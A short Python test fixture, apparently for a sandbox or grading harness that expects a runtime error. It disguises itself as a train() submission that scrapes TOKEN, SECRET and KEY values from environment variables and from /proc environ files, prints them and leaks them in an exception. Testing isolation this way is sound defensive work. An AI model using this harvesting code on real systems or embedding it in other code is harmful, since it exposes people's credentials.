# expect: runtime-error
"""Hunts for credentials in its environment and shows whatever it finds."""
import os


def _loot():
    found = {name: value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name or "KEY" in name}
    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ"):
        try:
            with open(path, "rb") as handle:
                for entry in handle.read().split(b"\0"):
                    name, _, value = entry.decode("latin-1").partition("=")
                    if "TOKEN" in name or "SECRET" in name:
                        found[path + ":" + name] = value
        except OSError:
            pass
    return found


loot = _loot()
print("found at import:", loot)


def train(X, y, What, alpha, epochs):
    loot = _loot()
    print("found:", loot)
    raise RuntimeError(f"leaked: {loot}")
